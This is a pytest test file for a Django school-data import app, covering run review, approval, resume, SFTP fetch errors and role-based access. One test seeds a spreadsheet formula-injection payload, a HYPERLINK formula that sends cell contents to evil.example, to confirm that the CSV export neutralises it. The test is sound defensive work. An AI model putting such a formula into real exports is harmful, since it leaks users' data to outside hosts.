import pytest
from django.urls import reverse

from imports import services
from imports.models import FetchAttempt, ImportRun
from imports.tests.feeds import copy_set, snapshot
from schools.models import Pupil, School
from schools.tests.factories import make_director

pytestmark = pytest.mark.django_db


@pytest.fixture
def feed(tmp_path):
    from django.utils import timezone

    run = services.import_files(
        paths=[copy_set("complet_20260901", tmp_path / "c", days_ago=2)],
        trigger=ImportRun.Trigger.COMMAND,
    )
    services.school_open_reconcile(uais=["0131234A", "0135678B"], opened_on=timezone.localdate())
    held = services.import_files(
        paths=[copy_set("header_only_20260903", tmp_path / "h", days_ago=1)],
        trigger=ImportRun.Trigger.COMMAND,
    )
    assert held.status == ImportRun.Status.HELD
    return {"first": run, "held": held}


@pytest.fixture
def director(feed):
    return make_director(School.objects.get(uai="0131234A"), account__login="dir.platanes")


def test_city_staff_sees_runs_alerts_and_the_fetch_button(client, city_user, feed):
    client.force_login(city_user)
    response = client.get(reverse("imports:run-list"))
    assert response.status_code == 200
    assert [r.pk for r in response.context["runs"]] == list(
        ImportRun.objects.order_by("-pk").values_list("pk", flat=True)
    )
    assert reverse("imports:fetch-now") in response.content.decode()


def test_review_screen_shows_why_a_run_is_held(client, city_user, feed):
    client.force_login(city_user)
    response = client.get(reverse("imports:run-detail", args=[feed["held"].pk]))
    assert [code for code, _ in response.context["reasons"]] == feed["held"].held_reasons
    assert {(r["kind"], r["action"], r["n"]) for r in response.context["summary"]} == {
        ("pupils", "leave", 5),
        ("links", "leave", 8),
        ("guardians", "leave", 6),  # no pupil left to link them
    }


def test_approving_applies_exactly_the_reviewed_plan(
    client, city_user, feed, django_capture_on_commit_callbacks
):
    client.force_login(city_user)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("imports:run-approve", args=[feed["held"].pk]))
    assert response.status_code == 302
    run = ImportRun.objects.get(pk=feed["held"].pk)
    assert (run.status, run.decided_by) == (ImportRun.Status.APPLIED, city_user)
    assert Pupil.objects.filter(left_at__isnull=True).count() == 0


def test_discarding_changes_nothing(client, city_user, feed):
    before = snapshot()
    client.force_login(city_user)
    client.post(reverse("imports:run-discard", args=[feed["held"].pk]))
    assert ImportRun.objects.get(pk=feed["held"].pk).status == ImportRun.Status.DISCARDED
    assert snapshot() == before


def test_fetch_button_records_a_failed_attempt_when_sftp_is_not_configured(
    client, city_user, django_capture_on_commit_callbacks, settings
):
    settings.SFTP_HOST = ""
    client.force_login(city_user)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("imports:fetch-now"))
    attempt = FetchAttempt.objects.get()
    assert (attempt.status, attempt.code, attempt.requested_by) == (
        FetchAttempt.Status.FAILED,
        "sftp-not-configured",
        city_user,
    )


def test_problems_csv(client, city_user, feed):
    client.force_login(city_user)
    response = client.get(reverse("imports:run-problems-csv", args=[feed["first"].pk]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.decode().splitlines() == [
        "level,code,file,line,identifier,school,message"
    ]


@pytest.mark.parametrize(
    ("name", "args", "method"),
    [
        ("imports:run-list", [], "get"),
        ("imports:run-detail", ["held"], "get"),
        ("imports:run-approve", ["held"], "post"),
        ("imports:run-discard", ["held"], "post"),
        ("imports:fetch-now", [], "post"),
        ("imports:run-problems-csv", ["held"], "get"),
    ],
)
def test_directors_cannot_reach_city_import_pages(client, feed, director, name, args, method):
    before = snapshot()
    client.force_login(director.account)
    url = reverse(name, args=[feed[a].pk for a in args])
    assert getattr(client, method)(url).status_code == 403
    assert ImportRun.objects.get(pk=feed["held"].pk).status == ImportRun.Status.HELD
    assert FetchAttempt.objects.count() == 0
    assert snapshot() == before


def test_director_reads_their_school_report_and_not_another(client, feed, director):
    client.force_login(director.account)
    run = feed["held"]
    own = client.get(reverse("imports:school-report", args=[run.pk, "0131234A"]))
    assert own.status_code == 200
    assert own.context["counts"] == {"pupils": {"left": 3}, "links": {"left": 5}}
    other = client.get(reverse("imports:school-report", args=[run.pk, "0135678B"]))
    assert other.status_code == 404
    csv = client.get(reverse("imports:school-problems-csv", args=[run.pk, "0135678B"]))
    assert csv.status_code == 404


def interrupted(run) -> ImportRun:
    """What a lost database connection leaves: approved, failed, retryable."""
    services.import_run_approve(run_id=run.pk)
    ImportRun.objects.filter(pk=run.pk).update(
        status=ImportRun.Status.FAILED, retryable=True, failure=f"Run {run.pk}: lost (test)."
    )
    return ImportRun.objects.get(pk=run.pk)


def test_city_staff_see_interrupted_runs_and_resume_them(
    client, city_user, feed, django_capture_on_commit_callbacks
):
    run = interrupted(feed["held"])
    client.force_login(city_user)
    response = client.get(reverse("imports:run-list"))
    assert [r.pk for r in response.context["interrupted"]] == [run.pk]
    body = response.content.decode()
    assert f"Run {run.pk}: lost (test)." in body
    assert reverse("imports:run-resume", args=[run.pk]) in body

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("imports:run-resume", args=[run.pk]))
    assert response.status_code == 302
    run.refresh_from_db()
    assert (run.status, run.retryable, run.failure) == (ImportRun.Status.APPLIED, False, "")
    assert Pupil.objects.filter(left_at__isnull=True).count() == 0
    assert list(client.get(reverse("imports:run-list")).context["interrupted"]) == []


def test_resume_refuses_a_run_failed_for_good_and_changes_nothing(
    client, city_user, feed, django_capture_on_commit_callbacks
):
    run = interrupted(feed["held"])
    ImportRun.objects.filter(pk=run.pk).update(retryable=False)
    before = snapshot()
    client.force_login(city_user)
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client.post(reverse("imports:run-resume", args=[run.pk]), follow=True)
    assert callbacks == []
    assert [str(m) for m in response.context["messages"]] == [
        f"L'import n° {run.pk} est en échec : il ne peut pas être repris."
    ]
    assert ImportRun.objects.get(pk=run.pk).status == ImportRun.Status.FAILED
    assert snapshot() == before


def test_only_city_staff_resume(client, director, feed):
    run = interrupted(feed["held"])
    client.force_login(director.account)
    assert client.post(reverse("imports:run-resume", args=[run.pk])).status_code == 403
    assert ImportRun.objects.get(pk=run.pk).status == ImportRun.Status.FAILED


def test_problems_csv_neutralises_formulas_from_the_feed(client, city_user, feed):
    from imports.models import ImportProblem

    ImportProblem.objects.create(
        run=feed["first"], level="warning", code="dangling", file="ENT_PERSEDUCNAT.xml", line=7,
        identifier='=HYPERLINK("http://evil.example/?"&A1,"ok")', school_key="-2+3",
        message="@SUM(1)",
    )  # fmt: skip
    client.force_login(city_user)
    response = client.get(reverse("imports:run-problems-csv", args=[feed["first"].pk]))
    assert response.content.decode().splitlines() == [
        "level,code,file,line,identifier,school,message",
        'warning,dangling,ENT_PERSEDUCNAT.xml,7,"\'=HYPERLINK(""http://evil.example/?""&A1,""ok"")",'
        "'-2+3,'@SUM(1)",
    ]


@pytest.mark.django_db(transaction=True)
def test_fetch_button_shows_the_outcome_in_french_not_started_in_green(client, settings):
    """It said "a commencé" in green while the attempt had failed, the reason in English."""
    from django.contrib.messages import constants

    from schools.tests.factories import UserFactory

    settings.SFTP_HOST = ""
    city = UserFactory(login="agent.ville", kind="city")
    client.force_login(city)
    response = client.post(reverse("imports:fetch-now"), follow=True)
    shown = [(m.level, str(m)) for m in response.context["messages"]]
    assert shown == [
        (
            constants.ERROR,
            "La récupération depuis l'Académie a échoué : le SFTP n'est pas configuré "
            "(paramètres SFTP_…).",
        )
    ]
    html = response.content.decode()
    assert "a commencé" not in html
    assert '<li class="message error">' in html
    attempt = FetchAttempt.objects.get()
    assert (attempt.status, attempt.code) == (FetchAttempt.Status.FAILED, "sftp-not-configured")
    assert attempt.reason == "le SFTP n'est pas configuré (paramètres SFTP_…)"


def test_a_fetch_still_running_says_so(client, city_user, django_capture_on_commit_callbacks):
    client.force_login(city_user)
    with django_capture_on_commit_callbacks(execute=False):  # the worker has not started it yet
        response = client.post(reverse("imports:fetch-now"), follow=True)
    assert [str(m) for m in response.context["messages"]] == [
        "Récupération demandée : son résultat s'affiche ci-dessous dès qu'elle est finie."
    ]
    assert FetchAttempt.objects.count() == 0
    # Once the worker runs it, the page refreshes itself until the outcome is known.
    FetchAttempt.objects.create(status=FetchAttempt.Status.RUNNING, trigger="manual")
    page = client.get(reverse("imports:run-list"))
    assert page.context["working"] is True
    assert '<meta http-equiv="refresh" content="5">' in page.content.decode()
